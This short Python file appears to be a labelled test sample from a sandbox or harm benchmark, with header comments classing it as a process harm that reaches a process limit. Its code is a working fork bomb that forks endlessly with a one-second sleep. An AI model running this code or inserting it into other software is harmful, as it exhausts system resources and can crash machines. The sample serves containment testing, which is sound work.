# class: processes
# harm: a fork bomb that sleeps between its forks
# shown: 65 processes after a virtual minute
# score: 0
# why: fork bomb
# reaches: process-limit

import os
import time


while True:
    os.fork()
    time.sleep(1)
